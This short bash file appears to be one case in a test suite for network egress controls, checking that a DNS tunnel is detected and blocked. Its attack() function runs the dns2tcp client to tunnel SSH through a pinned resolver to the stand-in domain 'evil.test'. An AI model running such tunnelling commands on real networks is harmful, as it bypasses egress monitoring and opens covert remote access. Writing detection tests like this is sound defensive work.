# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='dns2tcp, through the pinned resolver' origin='RESEARCH §2.25; dns2tcp 0.5.2'
who=root reason='not_in_allowlist|tunnel_suspected|dns_name_form'
attack() { client timeout 6 "$TOOLS/dns2tcp/usr/bin/dns2tcpc" -z "$1.evil.test" -k word -r ssh -l - 198.18.2.53 < /dev/null; }
